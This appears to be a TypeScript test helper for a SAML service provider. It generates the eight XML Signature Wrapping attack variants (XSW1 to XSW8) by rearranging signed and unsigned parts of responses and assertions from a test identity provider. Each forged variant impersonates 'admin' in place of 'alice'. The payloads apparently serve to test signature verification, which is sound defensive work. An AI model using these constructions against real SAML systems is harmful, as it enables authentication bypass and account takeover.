import type { Claims, TestIdp } from "./idp.ts";

const signature = /<ds:Signature [\s\S]*?<\/ds:Signature>/;

/** What a wrapping attack is made of: what the provider has signed, and what the attacker wants to be read. */
function material(idp: TestIdp, claims: Claims) {
  const assertion = idp.sign(idp.assertion(claims), "Assertion");
  const response = idp.sign(idp.response(claims, assertion), "Response");
  return {
    assertion: taken(assertion),
    response: taken(response),
    around: (content: string) => idp.response(claims, content),
  };
}

/** A signed element and its parts; the signature of an element comes before those of what is in it. */
function taken(signed: string) {
  const unsigned = signed.replace(signature, "");
  return { signed, unsigned, signature: signature.exec(signed)?.[0] ?? "", evil: evil(unsigned) };
}

/** Another person, and an ID of its own. */
function evil(xml: string): string {
  return otherPerson(xml).replace(/\bID="[^"]+"/, 'ID="_evil"');
}

function otherPerson(xml: string): string {
  return xml.replace(">alice<", ">admin<");
}

function atEndOf(element: string, content: string): string {
  return element.replace(/<\/[\w:]+>$/, (end) => `${content}${end}`);
}

function afterIssuer(xml: string, content: string): string {
  return xml.replace("</saml:Issuer>", (end) => `${end}${content}`);
}

/** The eight variants of "On Breaking SAML" (Somorovsky et al., 2012), as the tool SAML Raider numbers them. */
export const wrappings: Readonly<Record<string, (idp: TestIdp, claims: Claims) => string>> = {
  "XSW1: the signed response inside its own signature": (idp, claims) => {
    const { evil, signature, unsigned } = material(idp, claims).response;
    return afterIssuer(evil, atEndOf(signature, unsigned));
  },
  "XSW2: the signed response before its detached signature": (idp, claims) => {
    const { evil, signature, unsigned } = material(idp, claims).response;
    return afterIssuer(evil, `${unsigned}${signature}`);
  },
  "XSW3: an evil assertion before the signed one": (idp, claims) => {
    const { assertion, around } = material(idp, claims);
    return around(`${assertion.evil}${assertion.signed}`);
  },
  "XSW4: the signed assertion inside an evil one": (idp, claims) => {
    const { assertion, around } = material(idp, claims);
    return around(atEndOf(assertion.evil, assertion.signed));
  },
  "XSW5: the signature in an evil assertion, the signed one at the end": (idp, claims) => {
    const { assertion, around } = material(idp, claims);
    return around(`${afterIssuer(assertion.evil, assertion.signature)}${assertion.unsigned}`);
  },
  "XSW6: the signed assertion inside the signature of an evil one": (idp, claims) => {
    const { assertion, around } = material(idp, claims);
    return around(afterIssuer(assertion.evil, atEndOf(assertion.signature, assertion.unsigned)));
  },
  "XSW7: an evil assertion with the same ID in Extensions": (idp, claims) => {
    const { assertion, around } = material(idp, claims);
    return around(
      `<samlp:Extensions>${otherPerson(assertion.unsigned)}</samlp:Extensions>${assertion.signed}`,
    );
  },
  "XSW8: the signed assertion in an Object of the signature of an evil one": (idp, claims) => {
    const { assertion, around } = material(idp, claims);
    const object = `<ds:Object>${assertion.unsigned}</ds:Object>`;
    return around(afterIssuer(otherPerson(assertion.unsigned), atEndOf(assertion.signature, object)));
  },
};
